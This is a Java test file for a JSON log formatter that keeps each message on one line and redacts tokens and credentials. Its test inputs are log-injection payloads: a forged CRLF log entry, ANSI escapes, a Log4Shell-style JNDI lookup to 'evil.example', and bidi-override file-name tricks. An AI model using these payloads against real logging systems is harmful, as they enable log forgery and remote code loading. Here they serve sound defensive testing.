package fr.maillage.platform.http.log;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.logging.json.runtime.JsonFormatter;
import java.io.IOException;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.jboss.logmanager.ExtLogRecord;
import org.jboss.logmanager.Level;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("AU-03")
class HarmlessLineTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();

    private static String logged(String message) {
        return logged(message, null);
    }

    private static String logged(String message, @Nullable Throwable thrown) {
        var event = new ExtLogRecord(Level.INFO, message, ExtLogRecord.FormatStyle.NO_FORMAT, "test");
        event.setThrown(thrown);
        return new HarmlessJson(new JsonFormatter()).format(event);
    }

    private static JsonNode read(String line) throws IOException {
        assertThat(line).endsWith("\n");
        assertThat(line.strip()).doesNotContain("\n", "\r", "\u001b", "${", "\u202e", "\u2066", "\u2028", "\u0085");
        return MAPPER.readTree(line);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
                "x\u001b[31mred\u001b[0m\u0007",
                "${jndi:ldap://evil.example/a} ${env:HOME} $${lower:j}",
                "user\u202egnp.exe\u2066hidden\u2069\u200f\u061c",
                "line\u2028separator\u2029next\u0085nel",
                "zero\u200bwidth\ufeffmark \udb40\udc01tag",
                "lone \ud800 surrogate \udc00 halves",
                "quotes \" and \\ and \\u0041 and \\${x}",
            })
    void one_line_that_reads_back_as_it_was(String message) throws IOException {
        String line = logged(message);

        assertThat(read(line).get("message").asText()).isEqualTo(message.replace("\ud800 ", "\ud800 "));
    }

    @Tag("AU-05")
    @Test
    void the_message_of_an_exception_is_no_way_round() throws IOException {
        String line = logged(
                "failed", new IllegalStateException("a\r\nb\u202e${jndi:x} eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.sig"));

        JsonNode exception = read(line).get("exception");

        assertThat(exception.toString()).contains("jndi").contains("[token]").doesNotContain("eyJ");
    }

    @Test
    void tokens_and_credentials_are_taken_out() throws IOException {
        String jwt = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1c2VyLTEifQ.c2lnbmF0dXJl_-";
        assertThat(read(logged("got Bearer " + jwt + " from x")).get("message").asText())
                .doesNotContain("eyJ", "c2lnbmF0dXJl")
                .endsWith(" from x");
        assertThat(read(logged("Authorization: Basic YWxpY2U6c2VjcmV0"))
                        .get("message")
                        .asText())
                .isEqualTo("Authorization: Basic [credentials]");
        assertThat(read(logged("Bearer 2YotnFZFEjr1zCsicMWpAA00"))
                        .get("message")
                        .asText())
                .isEqualTo("Bearer [credentials]");
        assertThat(read(logged("Bearer authentication required")).get("message").asText())
                .isEqualTo("Bearer authentication required");
    }

    @Test
    void accents_and_other_scripts_stay_readable() {
        assertThat(logged("Médecin à Évry, 漢字 😀")).contains("Médecin à Évry, 漢字 😀");
    }

    @Property
    void any_text_is_one_line_of_json(@ForAll String message) throws IOException {
        String line = logged(message);

        assertThat(line.indexOf('\n')).isEqualTo(line.length() - 1);
        assertThat(MAPPER.readTree(line).get("message").isTextual()).isTrue();
    }
}
